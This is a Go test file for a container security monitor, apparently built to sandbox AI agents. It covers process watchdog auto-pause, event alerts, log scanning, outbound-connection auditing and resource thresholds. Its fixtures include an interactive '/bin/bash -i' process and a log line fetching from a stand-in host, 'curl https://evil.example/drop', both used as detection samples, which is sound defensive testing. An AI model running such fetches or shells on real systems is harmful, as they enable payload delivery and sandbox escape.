package monitor

import (
	"context"
	"io"
	"log/slog"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/crabpot/crabpot/internal/domain/alert"
	"github.com/crabpot/crabpot/internal/domain/preset"
	"github.com/crabpot/crabpot/internal/port/outbound"
)

func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m)
}

// fakeRuntime is an in-memory Runtime for driving the watcher fleet.
type fakeRuntime struct {
	mu      sync.Mutex
	status  outbound.Status
	stats   *outbound.Stats
	procs   []outbound.Process
	execOut string
	health  string
	paused  bool

	logLines chan string
	events   chan outbound.Event
}

var _ outbound.Runtime = (*fakeRuntime)(nil)

func newFakeRuntime() *fakeRuntime {
	return &fakeRuntime{
		status:   outbound.StatusRunning,
		health:   "none",
		logLines: make(chan string, 16),
		events:   make(chan outbound.Event, 16),
	}
}

func (f *fakeRuntime) Status(context.Context) (outbound.Status, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.status, nil
}

func (f *fakeRuntime) StatsSnapshot(context.Context) (*outbound.Stats, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.stats, nil
}

func (f *fakeRuntime) Top(context.Context) ([]outbound.Process, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.procs, nil
}

func (f *fakeRuntime) Exec(_ context.Context, _ string) (string, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.execOut, nil
}

func (f *fakeRuntime) Logs(ctx context.Context, _ bool, _ int) (<-chan string, error) {
	out := make(chan string)
	go func() {
		defer close(out)
		for {
			select {
			case <-ctx.Done():
				return
			case line, ok := <-f.logLines:
				if !ok {
					return
				}
				select {
				case out <- line:
				case <-ctx.Done():
					return
				}
			}
		}
	}()
	return out, nil
}

func (f *fakeRuntime) Events(ctx context.Context) (<-chan outbound.Event, error) {
	out := make(chan outbound.Event)
	go func() {
		defer close(out)
		for {
			select {
			case <-ctx.Done():
				return
			case ev, ok := <-f.events:
				if !ok {
					return
				}
				select {
				case out <- ev:
				case <-ctx.Done():
					return
				}
			}
		}
	}()
	return out, nil
}

func (f *fakeRuntime) Health(context.Context) (string, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.health, nil
}

func (f *fakeRuntime) StartTime(context.Context) (string, error) { return "", nil }
func (f *fakeRuntime) Start(context.Context) error               { return nil }
func (f *fakeRuntime) Stop(context.Context) error                { return nil }
func (f *fakeRuntime) Resume(context.Context) error              { return nil }
func (f *fakeRuntime) Destroy(context.Context) error             { return nil }

func (f *fakeRuntime) Pause(context.Context) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.paused = true
	return nil
}

func (f *fakeRuntime) wasPaused() bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.paused
}

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

func waitFor(t *testing.T, desc string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", desc)
}

func alertCount(bus *alert.Bus, severity, substr string) int {
	n := 0
	for _, a := range bus.History(0, severity) {
		if strings.Contains(a.Message, substr) {
			n++
		}
	}
	return n
}

func TestStartStopLifecycle(t *testing.T) {
	rt := newFakeRuntime()
	bus := alert.NewBus(testLogger(), "")
	m := New(rt, bus, preset.SecurityProfile{ProcessWatchdog: true}, Config{}, testLogger())

	if err := m.Start(); err != nil {
		t.Fatalf("Start: %v", err)
	}
	if err := m.Start(); err != ErrAlreadyRunning {
		t.Errorf("second Start = %v, want ErrAlreadyRunning", err)
	}
	// processes + the always-on health and event channels.
	waitFor(t, "startup alert", func() bool {
		return alertCount(bus, alert.SeverityInfo, "Security monitor started (3 channels)") == 1
	})

	m.Stop()
	m.Stop() // no-op

	if err := m.Start(); err != nil {
		t.Fatalf("restart after Stop: %v", err)
	}
	m.Stop()
}

func TestStartWithEmptyProfile(t *testing.T) {
	rt := newFakeRuntime()
	bus := alert.NewBus(testLogger(), "")
	m := New(rt, bus, preset.SecurityProfile{}, Config{}, testLogger())

	if err := m.Start(); err != nil {
		t.Fatalf("Start: %v", err)
	}
	if got := bus.History(0, ""); len(got) != 0 {
		t.Errorf("empty profile fired alerts: %+v", got)
	}
	m.Stop()
}

func TestSuspiciousProcessTriggersAutoPause(t *testing.T) {
	rt := newFakeRuntime()
	rt.procs = []outbound.Process{
		{PID: "1", User: "agent", Command: "node /app/agent.js"},
		{PID: "42", User: "agent", Command: "/bin/bash -i"},
	}
	bus := alert.NewBus(testLogger(), "")
	m := New(rt, bus, preset.SecurityProfile{ProcessWatchdog: true, AutoPauseOnCritical: true}, Config{}, testLogger())

	if err := m.Start(); err != nil {
		t.Fatal(err)
	}
	defer m.Stop()

	waitFor(t, "suspicious process alert", func() bool {
		return alertCount(bus, alert.SeverityCritical, "Suspicious process detected: /bin/bash -i") == 1
	})
	waitFor(t, "auto-pause", rt.wasPaused)
	waitFor(t, "auto-pause alert", func() bool {
		return alertCount(bus, alert.SeverityCritical, "Container auto-frozen: Suspicious process: bash") == 1
	})
}

func TestAutoPauseDisabledByProfile(t *testing.T) {
	rt := newFakeRuntime()
	rt.procs = []outbound.Process{{PID: "7", User: "agent", Command: "python3 -c pass"}}
	bus := alert.NewBus(testLogger(), "")
	m := New(rt, bus, preset.SecurityProfile{ProcessWatchdog: true}, Config{}, testLogger())

	if err := m.Start(); err != nil {
		t.Fatal(err)
	}
	defer m.Stop()

	waitFor(t, "suspicious process alert", func() bool {
		return alertCount(bus, alert.SeverityCritical, "Suspicious process detected") == 1
	})
	if rt.wasPaused() {
		t.Error("auto-pause fired with AutoPauseOnCritical disabled")
	}
}

func TestUnhealthyConsecutiveChecks(t *testing.T) {
	rt := newFakeRuntime()
	rt.health = "unhealthy"
	bus := alert.NewBus(testLogger(), "")
	m := New(rt, bus, preset.SecurityProfile{ProcessWatchdog: true, AutoPauseOnCritical: true}, Config{}, testLogger())

	// One prior unhealthy check; the first poll after Start is the second.
	m.unhealthyRuns = 1

	if err := m.Start(); err != nil {
		t.Fatal(err)
	}
	defer m.Stop()

	waitFor(t, "unhealthy alert", func() bool {
		return alertCount(bus, alert.SeverityCritical, "Container unhealthy (2 consecutive checks)") == 1
	})
	waitFor(t, "auto-pause", rt.wasPaused)
}

func TestEventSeverityMapping(t *testing.T) {
	rt := newFakeRuntime()
	bus := alert.NewBus(testLogger(), "")
	m := New(rt, bus, preset.SecurityProfile{ProcessWatchdog: true}, Config{}, testLogger())

	if err := m.Start(); err != nil {
		t.Fatal(err)
	}
	defer m.Stop()

	now := time.Now()
	rt.events <- outbound.Event{Action: "oom", Time: now}
	rt.events <- outbound.Event{Action: "restart", Time: now}
	rt.events <- outbound.Event{Action: "start", Time: now}
	rt.events <- outbound.Event{Action: "attach", Time: now} // ignored

	waitFor(t, "oom alert", func() bool {
		return alertCount(bus, alert.SeverityCritical, "Container event: oom") == 1
	})
	waitFor(t, "restart alert", func() bool {
		return alertCount(bus, alert.SeverityWarning, "Container event: restart") == 1
	})
	waitFor(t, "start alert", func() bool {
		return alertCount(bus, alert.SeverityInfo, "Container started") == 1
	})
	if got := alertCount(bus, "", "attach"); got != 0 {
		t.Errorf("ignored event produced %d alerts", got)
	}
}

func TestLogScannerPatterns(t *testing.T) {
	rt := newFakeRuntime()
	bus := alert.NewBus(testLogger(), "")
	m := New(rt, bus, preset.SecurityProfile{LogScanner: true}, Config{}, testLogger())

	if err := m.Start(); err != nil {
		t.Fatal(err)
	}
	defer m.Stop()

	rt.logLines <- "curl https://evil.example/drop"
	rt.logLines <- "pip install requests"
	rt.logLines <- "ERROR unauthorized access to resource" // matches two patterns, fires once
	rt.logLines <- "nothing interesting here"

	waitFor(t, "http call alert", func() bool {
		return alertCount(bus, alert.SeverityCritical, "Outbound HTTP call attempted") == 1
	})
	waitFor(t, "install alert", func() bool {
		return alertCount(bus, alert.SeverityCritical, "Package installation attempted") == 1
	})
	waitFor(t, "error alert", func() bool {
		return alertCount(bus, alert.SeverityWarning, "Error detected in logs") == 1
	})
	if got := alertCount(bus, "", "unauthorized access"); got != 1 {
		t.Errorf("multi-pattern line fired %d alerts, want 1", got)
	}
	if got := alertCount(bus, "", "nothing interesting"); got != 0 {
		t.Errorf("benign line produced %d alerts", got)
	}
}

func TestLogScannerTruncatesExcerpt(t *testing.T) {
	rt := newFakeRuntime()
	bus := alert.NewBus(testLogger(), "")
	m := New(rt, bus, preset.SecurityProfile{LogScanner: true}, Config{}, testLogger())

	if err := m.Start(); err != nil {
		t.Fatal(err)
	}
	defer m.Stop()

	rt.logLines <- "FATAL " + strings.Repeat("x", 400)

	waitFor(t, "truncated alert", func() bool {
		for _, a := range bus.History(0, alert.SeverityWarning) {
			if strings.HasSuffix(a.Message, "...") && len(a.Message) < 300 {
				return true
			}
		}
		return false
	})
}

func TestAuditConnections(t *testing.T) {
	bus := alert.NewBus(testLogger(), "")
	m := New(newFakeRuntime(), bus, preset.SecurityProfile{}, Config{}, testLogger())

	whitelisted := map[string]struct{}{
		"127.0.0.1": {}, "0.0.0.0": {}, "::1": {}, "::": {},
	}
	seen := make(map[uint64]struct{})

	output := strings.Join([]string{
		"Netid State Recv-Q Send-Q Address:Port",
		"tcp ESTAB 0 0 93.184.216.34:443",
		"tcp ESTAB 0 0 93.184.216.34:443", // duplicate endpoint
		"tcp ESTAB 0 0 127.0.0.1:9877",    // loopback, whitelisted
		"tcp ESTAB 0 0 [::1]:8080",        // bracketed loopback
		"tcp LISTEN 0 0 *:443",            // wildcard listener
		"short line",
	}, "\n")

	m.auditConnections(output, whitelisted, seen)
	if got := alertCount(bus, alert.SeverityWarning, "New outbound connection to 93.184.216.34:443"); got != 1 {
		t.Errorf("new endpoint fired %d alerts, want 1", got)
	}
	if got := len(bus.History(0, "")); got != 1 {
		t.Errorf("total alerts = %d, want 1 (whitelist and dedup should drop the rest)", got)
	}

	// Same endpoint on a later poll stays deduplicated.
	m.auditConnections(output, whitelisted, seen)
	if got := alertCount(bus, alert.SeverityWarning, "93.184.216.34:443"); got != 1 {
		t.Errorf("dedup across polls failed, %d alerts", got)
	}
}

func TestCheckCPUSustainWindow(t *testing.T) {
	bus := alert.NewBus(testLogger(), "")
	m := New(newFakeRuntime(), bus, preset.SecurityProfile{}, Config{CPUSustain: 20 * time.Millisecond}, testLogger())

	hot := &outbound.Stats{CPUPercent: 95}
	m.checkCPU(hot)
	if got := len(bus.History(0, "")); got != 0 {
		t.Fatalf("alert fired before sustain window elapsed (%d alerts)", got)
	}

	time.Sleep(30 * time.Millisecond)
	m.checkCPU(hot)
	if got := alertCount(bus, alert.SeverityWarning, "CPU at 95.0%"); got != 1 {
		t.Fatalf("sustained high CPU fired %d alerts, want 1", got)
	}

	// Dropping below the threshold resets the window.
	m.checkCPU(&outbound.Stats{CPUPercent: 10})
	m.checkCPU(hot)
	if got := len(bus.History(0, "")); got != 1 {
		t.Errorf("window did not reset after a cool sample (%d alerts)", got)
	}
}

func TestCheckMemoryCooldown(t *testing.T) {
	bus := alert.NewBus(testLogger(), "")
	m := New(newFakeRuntime(), bus, preset.SecurityProfile{}, Config{}, testLogger())

	hot := &outbound.Stats{MemoryPercent: 92, MemoryUsage: 1932735283}
	m.checkMemory(hot)
	m.checkMemory(hot)
	if got := alertCount(bus, alert.SeverityWarning, "Memory at 92.0%"); got != 1 {
		t.Errorf("memory alert fired %d times inside the cooldown, want 1", got)
	}

	m.checkMemory(&outbound.Stats{MemoryPercent: 40})
	if got := len(bus.History(0, "")); got != 1 {
		t.Errorf("below-threshold sample fired an alert")
	}
}

func TestLatestStats(t *testing.T) {
	rt := newFakeRuntime()
	rt.stats = &outbound.Stats{CPUPercent: 12.5, MemoryPercent: 30, PIDs: 17}
	bus := alert.NewBus(testLogger(), "")
	m := New(rt, bus, preset.SecurityProfile{ResourceLimits: true}, Config{}, testLogger())

	if m.LatestStats() != nil {
		t.Fatal("LatestStats non-nil before the first collection")
	}
	if err := m.Start(); err != nil {
		t.Fatal(err)
	}
	defer m.Stop()

	waitFor(t, "stats collection", func() bool {
		s := m.LatestStats()
		return s != nil && s.PIDs == 17
	})
}

func TestBaseCommand(t *testing.T) {
	t.Parallel()

	tests := []struct {
		in   string
		want string
	}{
		{"/usr/bin/python3 -m http.server", "python3"},
		{"bash", "bash"},
		{"node /app/server.js", "node"},
		{"", ""},
		{"   ", ""},
	}
	for _, tt := range tests {
		if got := baseCommand(tt.in); got != tt.want {
			t.Errorf("baseCommand(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
